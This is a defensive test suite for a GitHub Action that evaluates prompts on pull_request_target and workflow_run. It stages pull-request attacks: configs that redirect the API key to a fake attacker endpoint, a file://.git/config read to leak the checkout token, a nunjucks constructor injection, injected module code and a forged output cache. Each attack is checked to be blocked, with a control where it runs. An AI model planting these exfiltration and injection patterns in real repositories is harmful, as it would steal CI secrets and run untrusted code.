// pull_request_target and workflow_run run with the base repository's secrets and write token while looking at
// a stranger's pull request. The model: everything that executes or decides comes from the base commit; the
// head gives only the text of the prompts the base's suite names, rendered in the sandbox.
//
// Each row is an attack seen from outside: the bundled action runs on pull_request_target with the attack on
// the head, and nothing of it may happen (no marker file, no secret at the attacker's endpoint or in any output,
// the verdict from the base's yardstick). Its control runs the same payload where head code is allowed
// (`allow-untrusted-code: true`) and shows the payload is live.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, mkdtemp, readFile, readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { startFakeModelServer, type FakeModelServer } from '../support/fake-model-server.js';
import { createRepo, type TestRepo } from '../support/git-repo.js';
import { runAction, type ActionRun } from './run-action.js';
import { modelEnv, promptText, pullRequestEvent, suiteYaml } from './scenario.js';
import { useLoopbackWorld } from './world.js';

const world = useLoopbackWorld();
let attacker: FakeModelServer;
beforeAll(async () => {
  attacker = await startFakeModelServer({ responder: () => 'The answer is OK.' });
});
afterAll(() => attacker.close());

const KEY = 'sk-test-key';
const TOKEN = 'ghs_test_token';
let nextPr = 500;

const writeMarker = (marker: string) =>
  `process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')`;

interface Ctx {
  marker: string;
  attackerUrl: string;
}

interface Attack {
  name: string;
  /** Files of the base commit besides the standard suite (promptgate.yaml, prompts/answer.txt). */
  base?: (ctx: Ctx) => Record<string, string>;
  /** Files the pull request writes. */
  head: (ctx: Ctx) => Record<string, string>;
  /** The control's head, when the payload needs another spelling to be live where head code may run. */
  controlHead?: (ctx: Ctx) => Record<string, string>;
  inputs?: Record<string, string>;
  /** The head's pass rate under the base's yardstick, when the attack leaves it measurable. */
  headPassRate?: string;
}

/** Code the suite imports but does not name is the base's in the yardstick; the PR's suite runs when the suite changed. */
const touchConfig = (files: Record<string, string>) => ({
  ...files,
  'promptgate.yaml': `${customSuiteText}# touched\n`,
});
let customSuiteText = '';

const providerModule = (body: string) =>
  `import { answer } from './lib.mjs';\nexport default class { id() { return 'custom'; } async callApi(prompt) { ${body} return { output: answer(prompt) }; } }\n`;
const libModule = (extra = '') =>
  `export function answer(prompt) { ${extra} const n = Number(/Question (\\d+)/.exec(prompt)?.[1] ?? 0); const skill = Number(/Skill: (\\d+)/.exec(prompt)?.[1] ?? 0); return n % 10 < skill ? 'It is OK.' : 'No.'; }\n`;
// The same provider in TypeScript: types to strip, and a relative import of another .ts file (tsx's `./lib.js`).
const tsProviderModule = () =>
  `import { answer } from './lib.js';\nexport default class { id(): string { return 'custom'; } async callApi(prompt: string): Promise<{ output: string }> { return { output: answer(prompt) }; } }\n`;
const tsLibModule = (extra = '') => libModule(extra).replace('answer(prompt)', 'answer(prompt: string): string');
const customSuite = (provider: string) => suiteYaml().replace('  - openai:chat:fake-model', `  - ${provider}`);
const withProviderConfig = (config: string) =>
  suiteYaml().replace('  - openai:chat:fake-model', `  - id: openai:chat:fake-model\n    config: ${config}`);

/** defaultTest's scoring function: the verdict of the assertions, as without one (the payload runs first). */
const withScorer = (yaml: string) =>
  yaml.replace('defaultTest:\n', 'defaultTest:\n  assertScoringFunction: file://score.mjs\n');
const scorerModule = (payload = '') =>
  `export default (namedScores, context) => { ${payload} const pass = context.componentResults.every((r) => r.pass); return { pass, score: pass ? 1 : 0, reason: 'scored' }; };\n`;

const ATTACKS: Attack[] = [
  {
    name: 'a head config sends the key to its own apiBaseUrl',
    head: ({ attackerUrl }) => ({ 'promptgate.yaml': withProviderConfig(`{ apiBaseUrl: "${attackerUrl}/v1" }`) }),
  },
  {
    name: "a head config reads the action's token through apiKeyEnvar",
    head: ({ attackerUrl }) => ({
      'promptgate.yaml': withProviderConfig(`{ apiBaseUrl: "${attackerUrl}/v1", apiKeyEnvar: "INPUT_GITHUB-TOKEN" }`),
    }),
    // Runner variables are not readable by any config; the mechanism itself is live with another variable.
    controlHead: ({ attackerUrl }) => ({
      'promptgate.yaml': withProviderConfig(`{ apiBaseUrl: "${attackerUrl}/v1", apiKeyEnvar: "OPENAI_API_KEY" }`),
    }),
  },
  {
    name: 'an assertion value file://x.mjs is imported and run',
    head: ({ marker }) => ({
      'x.mjs': `export default function () { ${writeMarker(marker)}; return 'OK'; }\n`,
      'promptgate.yaml': suiteYaml().replace('      value: OK\n', '      value: file://x.mjs\n'),
    }),
  },
  {
    name: 'a changed config in a subfolder with an inline javascript assertion',
    base: () => ({
      'evals/promptgate.yaml': suiteYaml().replace('file://prompts/answer.txt', 'file://../prompts/answer.txt'),
    }),
    head: ({ marker }) => ({
      'evals/promptgate.yaml': suiteYaml()
        .replace('file://prompts/answer.txt', 'file://../prompts/answer.txt')
        .replace(
          '      value: OK\n',
          `      value: OK\n    - type: javascript\n      value: "${writeMarker(marker).replaceAll('"', '\\"')} || true"\n`,
        ),
    }),
    inputs: { config: 'evals/promptgate.yaml' },
  },
  {
    name: 'an unchanged custom provider imports a module the pull request changed',
    base: () => ({
      'promptgate.yaml': customSuite('file://provider.mjs'),
      'provider.mjs': providerModule(''),
      'lib.mjs': libModule(),
    }),
    head: ({ marker }) => ({ 'lib.mjs': libModule(`${writeMarker(marker)};`) }),
    controlHead: ({ marker }) => touchConfig({ 'lib.mjs': libModule(`${writeMarker(marker)};`) }),
  },
  {
    name: 'an unchanged TypeScript custom provider imports a .ts module the pull request changed',
    base: () => ({
      'promptgate.yaml': customSuite('file://provider.ts'),
      'provider.ts': tsProviderModule(),
      'lib.ts': tsLibModule(),
    }),
    head: ({ marker }) => ({ 'lib.ts': tsLibModule(`${writeMarker(marker)};`) }),
    controlHead: ({ marker }) => touchConfig({ 'lib.ts': tsLibModule(`${writeMarker(marker)};`) }),
  },
  {
    name: 'an assertion value file://x.ts (TypeScript) is imported and run',
    head: ({ marker }) => ({
      'x.ts': `export default function (): string { ${writeMarker(marker)}; return 'OK' as const; }\n`,
      'promptgate.yaml': suiteYaml().replace('      value: OK\n', '      value: file://x.ts\n'),
    }),
  },
  {
    name: 'an unchanged exec provider runs a script the pull request changed',
    base: () => ({
      'promptgate.yaml': customSuite('exec:node model.mjs'),
      'model.mjs': `${libModule()}\nprocess.stdout.write(answer(process.argv.at(-1)));\n`,
    }),
    head: ({ marker }) => ({
      'model.mjs': `${libModule(`${writeMarker(marker)};`)}\nprocess.stdout.write(answer(process.argv.at(-1)));\n`,
    }),
    controlHead: ({ marker }) =>
      touchConfig({
        'model.mjs': `${libModule(`${writeMarker(marker)};`)}\nprocess.stdout.write(answer(process.argv.at(-1)));\n`,
      }),
    headPassRate: undefined,
  },
  {
    name: 'an unchanged nunjucks filter module (nunjucksFilters) the pull request changed',
    base: () => ({
      'promptgate.yaml': suiteYaml({ extra: 'nunjucksFilters:\n  same: ./filters/same.mjs\n' }),
      'filters/same.mjs': 'export default (text) => text;\n',
    }),
    head: ({ marker }) => ({ 'filters/same.mjs': `${writeMarker(marker)};\nexport default (text) => text;\n` }),
    controlHead: ({ marker }) =>
      touchConfig({ 'filters/same.mjs': `${writeMarker(marker)};\nexport default (text) => text;\n` }),
  },
  {
    name: 'a head config adds a nunjucks filter module',
    head: ({ marker }) => ({
      'promptgate.yaml': suiteYaml({ extra: 'nunjucksFilters:\n  same: ./same.mjs\n' }),
      'same.mjs': `${writeMarker(marker)};\nexport default (text) => text;\n`,
    }),
  },
  {
    name: 'an unchanged scoring function (assertScoringFunction) the pull request changed',
    base: () => ({
      'promptgate.yaml': withScorer(suiteYaml()),
      'score.mjs': scorerModule(),
    }),
    head: ({ marker }) => ({ 'score.mjs': scorerModule(`${writeMarker(marker)};`) }),
  },
  {
    name: 'a head config adds a scoring function (assertScoringFunction)',
    head: ({ marker }) => ({
      'promptgate.yaml': withScorer(suiteYaml()),
      'score.mjs': scorerModule(`${writeMarker(marker)};`),
    }),
  },
  {
    name: "test data read from file://.git/config puts the checkout's extraheader into the comment",
    head: () => ({
      'promptgate.yaml': suiteYaml().replace('    vars: { n: 9 }', '    vars: { n: 9, leak: "file://.git/config" }'),
      'prompts/answer.txt': `${promptText(9, 'Please answer the question')}{{ leak }}\n`,
    }),
    // Under the base's tests no case defines `leak`: printing it is an error of every head case.
    headPassRate: undefined,
    // .git/ is refused by the loader on every event; the same reference to a copy outside it is live.
    // The copy's text goes where a prompt goes: to the model (here the recording endpoint).
    controlHead: ({ attackerUrl }) => ({
      'promptgate.yaml': withProviderConfig(`{ apiBaseUrl: "${attackerUrl}/v1" }`).replace(
        '    vars: { n: 9 }',
        '    vars: { n: 9, leak: "file://notes/config" }',
      ),
      'prompts/answer.txt': `${promptText(9, 'Please answer the question')}{{ leak }}\n`,
      'notes/config': '[http]\n\textraheader = AUTHORIZATION: basic Z2hzX3Rlc3RfdG9rZW4=\n',
    }),
  },
];

async function attackRepo(attack: Attack, ctx: Ctx): Promise<{ repo: TestRepo; base: string; head: string }> {
  const repo = await createRepo();
  world.repos.push(repo);
  await repo.write('promptgate.yaml', suiteYaml());
  await repo.write('prompts/answer.txt', promptText(10));
  // What actions/checkout leaves behind: the token as an extraheader in .git/config.
  await repo.git('config', 'http.https://github.com/.extraheader', 'AUTHORIZATION: basic Z2hzX3Rlc3RfdG9rZW4=');
  for (const [file, text] of Object.entries(attack.base?.(ctx) ?? {})) await repo.write(file, text);
  customSuiteText = await readFile(path.join(repo.dir, 'promptgate.yaml'), 'utf8');
  const base = await repo.commit('base');
  await repo.write('prompts/answer.txt', promptText(9, 'Please answer the question'));
  return { repo, base, head: '' };
}

async function commitHead(repo: TestRepo, files: Record<string, string>): Promise<string> {
  for (const [file, text] of Object.entries(files)) await repo.write(file, text);
  return repo.commit('head');
}

async function review(
  workspace: string,
  base: string,
  head: string,
  options: { sha: string; inputs?: Record<string, string>; allow?: boolean },
): Promise<{ run: ActionRun; pr: number }> {
  const pr = nextPr++;
  world.github.state.setPull(pr, { head: { sha: head, ref: 'feature' }, base: { sha: base, ref: 'main' } });
  const event = pullRequestEvent({ base, head }, pr);
  const run = await runAction({
    workspace,
    eventName: 'pull_request_target',
    payload: event,
    inputs: { ...options.inputs, ...(options.allow ? { 'allow-untrusted-code': 'true' } : {}), 'fail-on': 'never' },
    env: modelEnv(world.model),
    apiUrl: world.github.url,
    sha: options.sha,
  });
  return { run, pr };
}

/** Everything the run wrote that a person or a later step can read. */
async function everythingWritten(run: ActionRun, pr: number): Promise<string> {
  const comments = world.github.state.commentsOn(pr).map((c) => c.body);
  const report =
    run.outputs['report-path'] && existsSync(run.outputs['report-path'])
      ? await readFile(run.outputs['report-path'], 'utf8')
      : '';
  // `::add-mask::` lines are the masking commands themselves: the runner swallows them.
  const log = run.stdout
    .split('\n')
    .filter((line) => !line.startsWith('::add-mask::'))
    .join('\n');
  return [log, run.stderr, run.summary, JSON.stringify(run.outputs), report, ...comments].join('\n');
}

const secretsAtAttacker = (since: number) =>
  attacker.requests
    .slice(since)
    .filter((r) => JSON.stringify(r.headers).includes(KEY) || JSON.stringify(r.headers).includes(TOKEN)).length;

describe.each(ATTACKS)('$name', (attack) => {
  test('on pull_request_target (the base checked out, as actions/checkout does): nothing of it happens', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
    const ctx = { marker: path.join(dir, 'marker'), attackerUrl: attacker.url };
    const { repo, base } = await attackRepo(attack, ctx);
    const head = await commitHead(repo, attack.head(ctx));
    await repo.git('checkout', '--quiet', base);
    const atAttacker = attacker.requests.length;
    const { run, pr } = await review(repo.dir, base, head, { sha: base, inputs: attack.inputs });
    const written = await everythingWritten(run, pr);
    expect(run.stdout).not.toContain('::error::');
    expect(existsSync(ctx.marker)).toBe(false);
    expect(secretsAtAttacker(atAttacker)).toBe(0);
    expect(attacker.requests.length).toBe(atAttacker);
    for (const secret of [KEY, TOKEN, 'Z2hzX3Rlc3RfdG9rZW4=', 'extraheader']) expect(written).not.toContain(secret);
    // The base's yardstick judged the head prompt (skill 9 of 10 under the base's tests).
    if ('headPassRate' in attack ? attack.headPassRate : '0.9000') {
      expect(run.outputs['head-pass-rate']).toBe('headPassRate' in attack ? attack.headPassRate : '0.9000');
    }
  });

  test('control: where head code may run (allow-untrusted-code), the payload is live', async () => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
    const ctx = { marker: path.join(dir, 'marker'), attackerUrl: attacker.url };
    const { repo, base } = await attackRepo(attack, ctx);
    const head = await commitHead(repo, (attack.controlHead ?? attack.head)(ctx));
    const atAttacker = attacker.requests.length;
    // No output cache: a custom provider's cache identity hashes its own file, not the modules it imports.
    const inputs = { ...attack.inputs, cache: 'false' };
    const { run, pr } = await review(repo.dir, base, head, { sha: head, inputs, allow: true });
    const live =
      existsSync(ctx.marker) ||
      secretsAtAttacker(atAttacker) > 0 ||
      attacker.requests.slice(atAttacker).some((r) => JSON.stringify(r.body).includes('extraheader')) ||
      (await everythingWritten(run, pr)).includes('extraheader');
    expect(live).toBe(true);
  });
});

test('a nunjucks expression in a changed prompt is inert (the control is the template-injection corpus)', async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
  const marker = path.join(dir, 'marker');
  const repo = await createRepo();
  world.repos.push(repo);
  await repo.write('promptgate.yaml', suiteYaml());
  await repo.write('prompts/answer.txt', promptText(10));
  const base = await repo.commit('base');
  await repo.write(
    'prompts/answer.txt',
    `${promptText(10)}{{ range.constructor("${writeMarker(marker).replaceAll('"', '\\"')}")() }}\n`,
  );
  const head = await repo.commit('head');
  await repo.git('checkout', '--quiet', base);
  const { run } = await review(repo.dir, base, head, { sha: base });
  expect(existsSync(marker)).toBe(false);
  // Every head case is an error (the template is refused), never a pass or a fail.
  expect(run.outputs.verdict).toBe('inconclusive');
});

test("GitHub's 3,000-file cap on a shallow checkout of the base: head code still does not run", async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
  const ctx = { marker: path.join(dir, 'marker'), attackerUrl: attacker.url };
  const attack = ATTACKS.find((a) => a.name.startsWith('an unchanged custom provider'))!;
  const { repo, base } = await attackRepo(attack, ctx);
  const head = await commitHead(repo, attack.head(ctx));
  const shallow = path.join(dir, 'ws');
  await repo.git('checkout', '--quiet', base);
  await promisify(execFile)('git', ['clone', '--quiet', '--depth', '1', `file://${repo.dir}`, shallow]);
  const pr = nextPr++;
  const padding = Array.from({ length: 3200 }, (_, i) => ({ filename: `docs/page-${i}.md`, status: 'added' as const }));
  world.github.state.setPull(pr, { files: [{ filename: 'prompts/answer.txt', status: 'modified' }, ...padding] });
  world.github.state.setFile(head, 'prompts/answer.txt', promptText(9, 'Please answer the question'));
  const run = await runAction({
    workspace: shallow,
    eventName: 'pull_request_target',
    payload: pullRequestEvent({ base, head }, pr),
    inputs: { 'fail-on': 'never' },
    env: modelEnv(world.model),
    apiUrl: world.github.url,
    sha: base,
  });
  expect(run.stdout).toContain('reading the pull request through the API');
  expect(existsSync(ctx.marker)).toBe(false);
  expect(run.outputs['head-pass-rate']).toBe('0.9000');
});

test('output-cache entries are written redacted and outside the checkout', async () => {
  const repo = await createRepo();
  world.repos.push(repo);
  const echoKey = await startFakeModelServer({
    responder: ({ request }) => `OK, my key is ${String(request.headers.authorization)}`,
  });
  try {
    await repo.write('promptgate.yaml', suiteYaml({ tests: 2 }));
    await repo.write('prompts/answer.txt', promptText(10));
    const base = await repo.commit('base');
    await repo.write('prompts/answer.txt', promptText(9, 'Please answer'));
    const head = await repo.commit('head');
    const runnerTemp = await mkdtemp(path.join(os.tmpdir(), 'promptgate-temp-'));
    const pr = nextPr++;
    world.github.state.setPull(pr, { head: { sha: head, ref: 'feature' }, base: { sha: base, ref: 'main' } });
    await runAction({
      workspace: repo.dir,
      eventName: 'pull_request',
      payload: pullRequestEvent({ base, head }, pr),
      inputs: {},
      env: { ...modelEnv(echoKey), OPENAI_BASE_URL: `${echoKey.url}/v1` },
      apiUrl: world.github.url,
      sha: head,
      runnerTemp,
    });
    const cacheDir = path.join(runnerTemp, 'promptgate', 'output-cache');
    const entries = (await readdir(cacheDir, { recursive: true })).filter((f) => String(f).endsWith('.json'));
    expect(entries.length).toBeGreaterThan(0);
    for (const entry of entries) {
      const text = await readFile(path.join(cacheDir, String(entry)), 'utf8');
      expect(text).toContain('[REDACTED]');
      expect(text).not.toContain(KEY);
    }
    expect(existsSync(path.join(repo.dir, '.promptgate', 'cache'))).toBe(false);
  } finally {
    await echoKey.close();
  }
});

test("a grader's key and a secret a trusted custom provider echoes reach no comment, summary, report or log", async () => {
  const grader = await startFakeModelServer({
    responder: ({ request }) =>
      JSON.stringify({ pass: false, score: 0, reason: `graded with ${String(request.headers.authorization)}` }),
  });
  try {
    const repo = await createRepo();
    world.repos.push(repo);
    const suite = (skill: number) =>
      `prompts: [file://prompts/answer.txt]\nproviders: [file://provider.mjs]\n` +
      `defaultTest:\n  options:\n    provider:\n      id: openai:chat:grader\n      config: { apiBaseUrl: "${grader.url}/v1", apiKeyEnvar: GRADER_API_KEY }\n` +
      `  assert:\n    - type: llm-rubric\n      value: answers politely\n` +
      `tests:\n${Array.from({ length: 3 }, (_, n) => `  - vars: { n: ${n} }\n`).join('')}# skill ${skill}\n`;
    await repo.write(
      'provider.mjs',
      "export default class { id() { return 'echo-env'; } async callApi(prompt) { return { output: `${prompt} (service token ${process.env.MY_SERVICE_TOKEN})` }; } }\n",
    );
    await repo.write('promptgate.yaml', suite(10));
    await repo.write('prompts/answer.txt', promptText(10));
    const base = await repo.commit('base');
    await repo.write('prompts/answer.txt', promptText(9, 'Please answer'));
    const head = await repo.commit('head');
    const pr = nextPr++;
    world.github.state.setPull(pr, { head: { sha: head, ref: 'feature' }, base: { sha: base, ref: 'main' } });
    const secrets = { GRADER_API_KEY: 'sk-grader-secret-1', MY_SERVICE_TOKEN: 'svc-token-secret-2' };
    const run = await runAction({
      workspace: repo.dir,
      eventName: 'pull_request',
      payload: pullRequestEvent({ base, head }, pr),
      inputs: { 'fail-on': 'never', comment: 'always' },
      env: { ...modelEnv(world.model), ...secrets },
      apiUrl: world.github.url,
      sha: head,
    });
    const written = await everythingWritten(run, pr);
    // The payloads are live: the grader's reason and the provider's output reached the report, scrubbed.
    expect(written).toContain('graded with Bearer [REDACTED]');
    expect(written).toContain('service token [REDACTED]');
    for (const value of Object.values(secrets)) expect(written).not.toContain(value);
  } finally {
    await grader.close();
  }
});

test('workflow_run is untrusted too: a head config that redirects the key is not loaded', async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
  const ctx = { marker: path.join(dir, 'marker'), attackerUrl: attacker.url };
  const attack = ATTACKS[0];
  const { repo, base } = await attackRepo(attack, ctx);
  const head = await commitHead(repo, attack.head(ctx));
  await repo.git('checkout', '--quiet', base);
  const pr = nextPr++;
  world.github.state.setPull(pr, { head: { sha: head, ref: 'feature' }, base: { sha: base, ref: 'main' } });
  const atAttacker = attacker.requests.length;
  const run = await runAction({
    workspace: repo.dir,
    eventName: 'workflow_run',
    payload: {
      workflow_run: {
        head_sha: head,
        head_repository: { full_name: 'mallory/demo' },
        repository: { full_name: 'octo/demo' },
        pull_requests: [{ number: pr, base: { sha: base }, head: { sha: head } }],
      },
      repository: { name: 'demo', owner: { login: 'octo' } },
    },
    inputs: { 'fail-on': 'never' },
    env: modelEnv(world.model),
    apiUrl: world.github.url,
    sha: base,
  });
  expect(run.stdout).not.toContain('::error::');
  expect(attacker.requests.length).toBe(atAttacker);
  expect(run.outputs['head-pass-rate']).toBe('0.9000');
});

test('allow-untrusted-code with the base checked out says the head would be compared with itself', async () => {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'promptgate-attack-'));
  const ctx = { marker: path.join(dir, 'marker'), attackerUrl: attacker.url };
  const { repo, base } = await attackRepo(ATTACKS[0], ctx);
  const head = await commitHead(repo, { 'prompts/answer.txt': promptText(9, 'Please answer the question') });
  await repo.git('checkout', '--quiet', base);
  const { run } = await review(repo.dir, base, head, { sha: base, allow: true });
  expect(run.stdout).toContain('::warning::the workspace is checked out at the base commit');
});

test('output-cache entries committed under .promptgate/cache decide nothing; restored by the Actions cache, they would', async () => {
  const okModel = await startFakeModelServer({ responder: () => 'It is OK.' });
  try {
    const repo = await createRepo();
    world.repos.push(repo);
    await repo.write('promptgate.yaml', suiteYaml());
    await repo.write('prompts/answer.txt', promptText(10));
    const base = await repo.commit('base');
    await repo.write('prompts/answer.txt', promptText(9, 'Please answer the question'));
    const honest = await repo.commit('the prompt change');
    // Entries that answer every case "OK", made by a run against a model that always agrees.
    const forged = await mkdtemp(path.join(os.tmpdir(), 'promptgate-forged-'));
    const pr = nextPr++;
    world.github.state.setPull(pr, { head: { sha: honest, ref: 'feature' }, base: { sha: base, ref: 'main' } });
    await runAction({
      workspace: repo.dir,
      eventName: 'pull_request',
      payload: pullRequestEvent({ base, head: honest }, pr),
      inputs: { 'fail-on': 'never', comment: 'off' },
      env: { ...modelEnv(okModel), OPENAI_BASE_URL: `${okModel.url}/v1` },
      apiUrl: world.github.url,
      sha: honest,
      runnerTemp: forged,
    });
    const entries = path.join(forged, 'promptgate', 'output-cache');
    await cp(entries, path.join(repo.dir, '.promptgate', 'cache'), { recursive: true });
    await repo.git('add', '-f', '.promptgate/cache');
    const head = await repo.commit('commits the forged cache');
    await repo.git('checkout', '--quiet', base);

    const attack = await review(repo.dir, base, head, { sha: base });
    expect(attack.run.outputs['head-pass-rate']).toBe('0.9000');
    expect(Number(attack.run.outputs.calls)).toBeGreaterThan(0);

    // Control: the same entries where the Actions cache restores them answer every case, with no call.
    const restored = await mkdtemp(path.join(os.tmpdir(), 'promptgate-restored-'));
    await cp(entries, path.join(restored, 'promptgate', 'output-cache'), { recursive: true });
    const pr2 = nextPr++;
    world.github.state.setPull(pr2, { head: { sha: head, ref: 'feature' }, base: { sha: base, ref: 'main' } });
    const control = await runAction({
      workspace: repo.dir,
      eventName: 'pull_request_target',
      payload: pullRequestEvent({ base, head }, pr2),
      inputs: { 'fail-on': 'never' },
      env: modelEnv(world.model),
      apiUrl: world.github.url,
      sha: base,
      runnerTemp: restored,
    });
    expect(control.outputs['head-pass-rate']).toBe('1.0000');
    expect(control.outputs.calls).toBe('0');
  } finally {
    await okModel.close();
  }
});
